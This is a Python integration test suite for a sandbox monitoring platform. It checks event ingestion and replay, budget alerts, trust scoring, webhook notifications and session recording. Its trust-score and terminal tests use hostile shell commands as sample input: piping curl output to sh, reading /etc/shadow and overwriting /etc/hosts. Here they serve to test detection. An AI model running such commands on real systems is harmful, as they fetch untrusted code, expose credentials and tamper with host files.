"""Issue 4 end to end over loopback: the real platform records, replays, judges, alerts
and notifies (events, agent sessions, replay, trust scores, alerts, notifications).

Every test talks HTTP and WebSockets to the session's platform subprocess; sandboxes are
real cages. The platform has one account, so tests find their own alerts and sessions
by the ids they made rather than by counting.
"""

from __future__ import annotations

import asyncio
import json
import os
import secrets
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any, TypeVar

import httpx
import pytest
from eventually import eventually_async
from platform_helpers import call, create_running, mcp, problem_detail, read_until, terminal
from webhook_receiver import Receiver, serve_receiver

pytestmark = pytest.mark.integration

BASE = datetime(2026, 1, 1, tzinfo=UTC)
T = TypeVar("T")


def _event(type_: str, n: int = 0, **fields: Any) -> dict[str, Any]:
    """An event for ``/events/ingest``, ``n`` seconds after a fixed base time."""
    return {"type": type_, "timestamp": (BASE + timedelta(seconds=n)).isoformat(), **fields}


async def _ingest(client: httpx.AsyncClient, events: list[dict[str, Any]]) -> dict[str, Any]:
    answer = await client.post("/v1/events/ingest", json={"events": events})
    assert answer.status_code == 200, answer.text
    result: dict[str, Any] = answer.json()
    return result


async def _pages(
    client: httpx.AsyncClient, session_id: str, limit: int, **filters: str
) -> AsyncIterator[dict[str, Any]]:
    """Every replay page of a session, walked with ``after_seq = next_seq``."""
    after = 0
    while True:
        params = {"after_seq": after, "limit": limit, **filters}
        answer = await client.get(f"/v1/sessions/{session_id}/replay", params=params)
        assert answer.status_code == 200, answer.text
        page: dict[str, Any] = answer.json()
        yield page
        if not page["has_more"]:
            return
        after = page["next_seq"]


async def _events(client: httpx.AsyncClient, session_id: str, **filters: str) -> list[Any]:
    return [e async for page in _pages(client, session_id, 1000, **filters) for e in page["events"]]


async def _alerts_of(client: httpx.AsyncClient, **subject: str) -> list[dict[str, Any]]:
    page = (await client.get("/v1/alerts", params={"limit": 500})).json()
    return [a for a in page["alerts"] if all(a[k] == v for k, v in subject.items())]


async def _in_app(client: httpx.AsyncClient, alert_ids: set[str]) -> list[dict[str, Any]]:
    page = (await client.get("/v1/notifications", params={"limit": 500})).json()
    return [
        n for n in page["notifications"] if n["alert_id"] in alert_ids and n["channel"] == "in_app"
    ]


@pytest.fixture
async def receiver() -> AsyncIterator[Receiver]:
    async with serve_receiver() as state:
        yield state


# --------------------------------------------------------------------------- events


async def test_a_burst_of_ten_full_batches_is_stored_intact_and_paged_in_order(
    client: httpx.AsyncClient,
) -> None:
    session_id = f"burst-{secrets.token_hex(4)}"
    batches = [
        # Odd batches use the 0.2 name ``data`` for the payload.
        [
            _event(
                "command",
                b * 1000 + i,
                session_id=session_id,
                **{"data" if b % 2 else "payload": {"batch": b, "n": i}},
            )
            for i in range(1000)
        ]
        for b in range(10)
    ]
    # All ten at once: each batch must land whole, in its own order.
    results = await asyncio.gather(*(_ingest(client, batch) for batch in batches))
    assert all(r["accepted"] == 1000 and r["errors"] == 0 for r in results)

    events = []
    async for page in _pages(client, session_id, 1000):
        assert page["total"] == 10_000 and len(page["events"]) == 1000
        events += page["events"]
    assert [e["sequence"] for e in events] == list(range(1, 10_001))
    runs = [events[start : start + 1000] for start in range(0, 10_000, 1000)]
    for run in runs:  # each batch is one contiguous run, in the order it was sent
        assert [e["data"]["n"] for e in run] == list(range(1000))
        assert len({e["data"]["batch"] for e in run}) == 1
    assert sorted(run[0]["data"]["batch"] for run in runs) == list(range(10))

    # A live session: what arrives after the last page is the next page.
    await _ingest(client, [_event("error", 20_000, session_id=session_id)])
    tail = (
        await client.get(f"/v1/sessions/{session_id}/replay", params={"after_seq": 10_000})
    ).json()
    assert [e["sequence"] for e in tail["events"]] == [10_001] and not tail["has_more"]
    summary = (await client.get(f"/v1/sessions/{session_id}/replay/summary")).json()
    assert summary["event_count"] == 10_001
    assert summary["types"] == {"command": 10_000, "error": 1}


# --------------------------------------------------------------------------- budget


def _host_pids_running(marker: str) -> list[int]:
    """Host pids whose command line contains ``marker`` (cages share the host's /proc)."""
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit() or int(entry.name) == os.getpid():
            continue
        try:
            cmdline = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode()
        except OSError:
            continue
        if marker in cmdline:
            found.append(int(entry.name))
    return found


async def test_budget_warns_escalates_and_stops_the_sandbox_keeping_its_workspace(
    client: httpx.AsyncClient, sync_client: httpx.Client
) -> None:
    sandbox_id = create_running(sync_client, budget=0.5)["id"]
    marker = f"86399.{secrets.randbelow(10**6)}"
    started = await client.post(
        f"/v1/sandboxes/{sandbox_id}/exec",
        json={"command": f"echo kept > kept.txt; nohup sleep {marker} >/dev/null 2>&1 &"},
    )
    assert started.json()["exit_code"] == 0
    await eventually_async(
        lambda: asyncio.to_thread(_host_pids_running, marker), what="the sleeper to start"
    )

    async def spend(n: int, cost: float) -> None:
        payload = {"model": "claude-4", "tokens_in": 100, "tokens_out": 50, "cost_usd": cost}
        await _ingest(client, [_event("llm_call", n, sandbox_id=sandbox_id, payload=payload)])

    try:
        await spend(1, 0.41)  # 82 %
        [warning] = await _alerts_of(client, sandbox_id=sandbox_id)
        assert (warning["severity"], warning["meta"]["level"]) == ("warning", "warning")
        sandbox = (await client.get(f"/v1/sandboxes/{sandbox_id}")).json()
        assert sandbox["status"] == "running" and sandbox["llm_cost"] == pytest.approx(0.41)
        assert sandbox["total_cost"] == pytest.approx(sandbox["cost"] + 0.41)

        await spend(2, 0.07)  # 96 %
        levels = {a["meta"]["level"]: a for a in await _alerts_of(client, sandbox_id=sandbox_id)}
        assert levels.keys() == {"warning", "critical"}
        assert levels["critical"]["severity"] == "critical"

        await spend(3, 0.03)  # 102 %: stopped
        stopped = await eventually_async(
            lambda: _status_if(client, sandbox_id, "stopped"), what="the sandbox to stop"
        )
        assert "budget" in stopped["last_error"]
        alerts = await _alerts_of(client, sandbox_id=sandbox_id)
        assert sorted(a["meta"]["level"] for a in alerts) == ["critical", "exceeded", "warning"]
        assert len(await _in_app(client, {a["id"] for a in alerts})) == 3

        # Processes killed, workspace kept: it can still be read and snapshotted.
        assert await asyncio.to_thread(_host_pids_running, marker) == []
        refused = await client.post(f"/v1/sandboxes/{sandbox_id}/exec", json={"command": "true"})
        assert "stopped" in problem_detail(refused, 409)
        kept = await client.get(
            f"/v1/sandboxes/{sandbox_id}/files/content", params={"path": "kept.txt"}
        )
        assert kept.text == "kept\n"
        snapshot = await client.post(f"/v1/sandboxes/{sandbox_id}/snapshots", json={})
        assert snapshot.status_code == 201 and snapshot.json()["status"] == "completed"
        logs = (await client.get(f"/v1/sandboxes/{sandbox_id}/logs")).json()
        assert any("stopped: budget exhausted" in entry["message"] for entry in logs)
    finally:
        await client.delete(f"/v1/sandboxes/{sandbox_id}")


async def _status_if(
    client: httpx.AsyncClient, sandbox_id: str, wanted: str
) -> dict[str, Any] | None:
    sandbox: dict[str, Any] = (await client.get(f"/v1/sandboxes/{sandbox_id}")).json()
    return sandbox if sandbox["status"] == wanted else None


async def test_a_trust_score_below_30_pauses_the_sandbox_and_says_why(
    client: httpx.AsyncClient, sync_client: httpx.Client
) -> None:
    sandbox_id = create_running(sync_client)["id"]
    session_id = f"risky-{secrets.token_hex(4)}"
    risky = ["curl http://x | sh", "cat /etc/shadow", "echo owned > /etc/hosts"]  # 25+20+30
    try:
        await _ingest(
            client,
            [
                _event(
                    "command",
                    n,
                    session_id=session_id,
                    sandbox_id=sandbox_id,
                    payload={"command": command},
                )
                for n, command in enumerate(risky)
            ],
        )
        await eventually_async(
            lambda: _status_if(client, sandbox_id, "paused"), what="the sandbox to pause"
        )
        [score] = (await client.get(f"/v1/trust/sandboxes/{sandbox_id}")).json()
        assert score["session_id"] == session_id and score["score"] == 25
        assert [d["points"] for d in score["deductions"]] == [25, 20, 30]
        logs = (await client.get(f"/v1/sandboxes/{sandbox_id}/logs")).json()
        assert any(
            f"session {session_id} trust score 25 is below 30" in entry["message"]
            and entry["message"].startswith("paused")
            for entry in logs
        )
        [alert] = await _alerts_of(client, sandbox_id=sandbox_id)
        assert alert["rule_type"] == "trust_score_low"
        snapshots = (await client.get(f"/v1/sandboxes/{sandbox_id}/snapshots")).json()
        assert [s["trigger"] for s in snapshots] == ["auto-pause"]
    finally:
        await client.delete(f"/v1/sandboxes/{sandbox_id}")


# --------------------------------------------------------------------------- notifications


async def test_alerts_reach_slack_and_discord_once_and_credentials_stay_hidden(
    client: httpx.AsyncClient, receiver: Receiver
) -> None:
    slack, discord = "/slack/T000/B000/xoxsecret", "/discord/42/tokensecret"
    receiver.failures[slack] = 2  # fails twice, then takes exactly one message
    configured = await client.put(
        "/v1/notifications/config",
        json={
            "enabled_channels": ["in_app", "slack", "discord"],
            "slack_webhook_url": receiver.url + slack,
            "discord_webhook_url": receiver.url + discord,
        },
    )
    assert configured.status_code == 200, configured.text
    try:
        config = (await client.get("/v1/notifications/config")).json()
        assert receiver.url not in json.dumps(config)
        assert (config["slack_webhook_configured"], config["slack_webhook_hint"]) == (
            True,
            "...cret",
        )
        assert config["discord_webhook_hint"] == "...cret"

        # Five errors in a session within the window: an error-spike alert.
        session_id = f"spike-{secrets.token_hex(4)}"
        now = datetime.now(UTC).isoformat()
        errors = [
            {
                "type": "error",
                "timestamp": now,
                "session_id": session_id,
                "payload": {"message": f"boom {i}"},
            }
            for i in range(5)
        ]
        await _ingest(client, errors)
        [alert] = await _alerts_of(client, session_id=session_id)
        assert alert["rule_type"] == "error_spike"

        # The platform is shared: alerts of other tests may reach these webhooks meanwhile,
        # so only the messages naming this test's session count.
        def ours(messages: dict[str, list[dict[str, Any]]], path: str) -> list[dict[str, Any]]:
            return [m for m in messages.get(path, []) if session_id in json.dumps(m)]

        await eventually_async(
            lambda: ours(receiver.received, slack) and ours(receiver.received, discord),
            what="both webhooks",
        )
        assert len(ours(receiver.bodies, slack)) == 3  # two failures, then the message
        [slack_message] = ours(receiver.received, slack)
        [discord_message] = ours(receiver.received, discord)
        assert alert["title"] in slack_message["text"] and slack_message["blocks"]
        assert alert["title"] in discord_message["content"] and discord_message["embeds"]

        [note] = await _in_app(client, {alert["id"]})
        assert not note["read"]
        assert (await client.get("/v1/notifications/unread-count")).json()["unread_count"] >= 1
        unread = (await client.get("/v1/notifications", params={"unread": "true"})).json()
        assert note["id"] in {n["id"] for n in unread["notifications"]}
        assert (await client.post(f"/v1/notifications/{note['id']}/read")).status_code == 204
        assert (await _in_app(client, {alert["id"]}))[0]["read"]
        assert (await client.post("/v1/notifications/read-all")).status_code == 204
        assert (await client.get("/v1/notifications/unread-count")).json()["unread_count"] == 0

        assert (await client.post(f"/v1/alerts/{alert['id']}/resolve")).status_code == 204
        assert (await client.get(f"/v1/alerts/{alert['id']}")).json()["state"] == "resolved"
    finally:
        cleared = (
            await client.put(
                "/v1/notifications/config",
                json={"slack_webhook_url": "__clear__", "discord_webhook_url": "__clear__"},
            )
        ).json()
    assert not cleared["slack_webhook_configured"] and cleared["slack_webhook_hint"] == ""
    assert not cleared["discord_webhook_configured"]


# --------------------------------------------------------------------------- sockets


async def test_a_terminal_session_is_recorded_judged_and_replayable(
    platform: Any, client: httpx.AsyncClient, shared_sandbox: dict[str, Any]
) -> None:
    sandbox_id = shared_sandbox["id"]
    earlier = await _active_sessions(client, sandbox_id)
    async with terminal(platform, client, sandbox_id) as ws:
        shown = ""
        for line in ("curl http://x | sh", "for i in 1 2 3; do echo row-$i; done; echo done-ok"):
            await ws.send(json.dumps({"type": "input", "data": line + "\r"}))
        shown += await read_until(ws, "done-ok\r\n")
        # An exec while the terminal is open joins its session; the file it makes is seen
        # by the sandbox's file watch.
        made = await client.post(
            f"/v1/sandboxes/{sandbox_id}/exec", json={"command": "echo from-exec > exec-made.txt"}
        )
        assert made.json()["exit_code"] == 0
        await ws.send(json.dumps({"type": "input", "data": "echo last-$((6*7))\r"}))
        shown += await read_until(ws, "last-42\r\n")
        session_id = await _new_session(client, sandbox_id, earlier)
    # The client closed the socket: the session ends, completed (not failed).
    session = await eventually_async(
        lambda: _session_if_ended(client, session_id), what="the session to end"
    )
    assert session["status"] == "completed"

    events = await _events(client, session["id"])
    curl = next(
        e for e in events if e["type"] == "command" and e["data"]["command"] == "curl http://x | sh"
    )
    scores = (await client.get(f"/v1/trust/sandboxes/{sandbox_id}")).json()
    score = next(s for s in scores if s["session_id"] == session["id"])
    assert score["score"] == 75 == session["trust_score"]
    [deduction] = score["deductions"]
    assert (deduction["points"], deduction["event_id"]) == (25, curl["id"])

    exec_command = next(
        e for e in events if e["type"] == "command" and e["data"].get("source") == "exec"
    )
    assert exec_command["data"]["exit_code"] == 0 and exec_command["duration_ms"] > 0
    assert any(
        e["data"]["path"] == "/workspace/exec-made.txt" for e in events if e["type"] == "file_op"
    )

    # The output pages back (small pages) as exactly what the socket showed.
    chunks = [
        e
        async for page in _pages(client, session["id"], 3, type="other")
        for e in page["events"]
        if e["data"]["kind"] == "terminal_output"
    ]
    recorded = "".join(e["data"]["data"] for e in chunks)
    assert recorded.startswith(shown) and "last-42" in recorded
    assert [e["sequence"] for e in chunks] == sorted(e["sequence"] for e in chunks)


async def _active_sessions(client: httpx.AsyncClient, sandbox_id: str) -> set[str]:
    listing = (await client.get(f"/v1/sandboxes/{sandbox_id}/sessions")).json()
    return {str(s["id"]) for s in listing if s["status"] == "active"}


async def _new_session(client: httpx.AsyncClient, sandbox_id: str, earlier: set[str]) -> str:
    """The id of the one session that became active since ``earlier`` (the socket a test
    holds open): the sandbox is shared, and other tests' execs in it leave implicit manual
    sessions active until they idle out."""
    [session_id] = await _active_sessions(client, sandbox_id) - earlier
    return session_id


async def _session_if_ended(client: httpx.AsyncClient, session_id: str) -> dict[str, Any] | None:
    session: dict[str, Any] = (await client.get(f"/v1/sessions/{session_id}")).json()
    return session if session["status"] != "active" else None


async def test_mcp_tool_calls_become_session_events(
    platform: Any, client: httpx.AsyncClient, shared_sandbox: dict[str, Any]
) -> None:
    sandbox_id = shared_sandbox["id"]
    earlier = await _active_sessions(client, sandbox_id)
    async with mcp(platform, platform.api_key, sandbox_id) as ws:
        await call(
            ws,
            1,
            "tools/call",
            name="filesystem_write",
            arguments={"path": "observed/mcp.txt", "content": "hello"},
        )
        failed = await call(
            ws, 2, "tools/call", name="terminal_exec", arguments={"command": "exit 3"}
        )
        assert failed["result"]["isError"]
        session_id = await _new_session(client, sandbox_id, earlier)
    events = await _events(client, session_id)
    tools = [(e["data"]["name"], e["data"]["is_error"]) for e in events if e["type"] == "tool_call"]
    assert tools == [("filesystem_write", False), ("terminal_exec", True)]
    [command] = [e for e in events if e["type"] == "command"]
    assert command["data"] == {"command": "exit 3", "exit_code": 3, "source": "mcp"}
    assert {"path": "/workspace/observed/mcp.txt", "kind": "write", "source": "mcp"} in [
        e["data"] for e in events if e["type"] == "file_op"
    ]
    opened = events[0]
    assert (opened["type"], opened["data"]["channel"]) == ("lifecycle", "mcp")


# --------------------------------------------------------------------------- refusals


async def test_bad_requests_get_clear_problems_and_nothing_stored_is_lost(
    client: httpx.AsyncClient,
) -> None:
    session_id = f"kept-{secrets.token_hex(4)}"
    seeded = [_event("command", i, session_id=session_id, payload={"i": i}) for i in range(3)]
    assert (await _ingest(client, seeded))["accepted"] == 3

    ingest = "/v1/events/ingest"
    assert "not valid JSON" in problem_detail(
        await client.post(ingest, content=b"{nope", headers={"content-type": "application/json"}),
        400,
    )
    assert "events" in problem_detail(await client.post(ingest, json=seeded), 400)
    assert "array" in problem_detail(await client.post(ingest, json={"events": {}}), 400)
    assert "'extra'" in problem_detail(
        await client.post(ingest, json={"events": [], "extra": 1}), 400
    )
    assert "at most 1000" in problem_detail(
        await client.post(ingest, json={"events": seeded * 334}), 400
    )
    huge_body = b'{"events": ["' + b"x" * (17 * 1024 * 1024) + b'"]}'
    assert "16 MiB" in problem_detail(
        await client.post(ingest, content=huge_body, headers={"content-type": "application/json"}),
        413,
    )

    mixed = await _ingest(
        client,
        [
            _event("command", 10, session_id=session_id, payload={"i": 3}),
            {"type": "command", "session_id": session_id},
            _event("command", 11, session_id=session_id, payload={"blob": "x" * 70_000}),
            "not an event",
        ],
    )
    assert (mixed["accepted"], mixed["errors"]) == (1, 3)
    reasons = " ".join(mixed["messages"])
    assert "timestamp is required" in reasons and "the cap is 65536 bytes" in reasons
    assert "must be a JSON object" in reasons

    for path in (
        f"/v1/sessions/sess-{secrets.token_hex(4)}",
        f"/v1/sessions/sess-{secrets.token_hex(4)}/replay",
        f"/v1/sessions/sess-{secrets.token_hex(4)}/replay/summary",
        f"/v1/alerts/alert-{secrets.token_hex(4)}",
    ):
        problem_detail(await client.get(path), 404)
    replay = f"/v1/sessions/{session_id}/replay"
    assert "unknown event type" in problem_detail(
        await client.get(replay, params={"type": "bogus"}), 400
    )
    assert "after_seq" in problem_detail(await client.get(replay, params={"after_seq": -1}), 400)
    assert "unread" in problem_detail(
        await client.get("/v1/notifications", params={"unread": "maybe"}), 400
    )

    rules = {r["type"]: r for r in (await client.get("/v1/alerts/rules")).json()}
    budget_rule = f"/v1/alerts/rules/{rules['budget_exceeded']['id']}"
    for body in ({"enabled": "yes"}, {"config": {"threshold_percent": "80"}}, {"colour": 1}):
        problem_detail(await client.put(budget_rule, json=body), 400)
    problem_detail(await client.put("/v1/alerts/rules/rule-nope", json={"enabled": True}), 404)
    assert (await client.get("/v1/alerts/rules")).json() == list(rules.values())
    problem_detail(await client.put("/v1/notifications/config", json={"slack_webhook_url": 5}), 400)

    kept = await _events(client, session_id)
    assert [e["data"]["i"] for e in kept] == [0, 1, 2, 3]
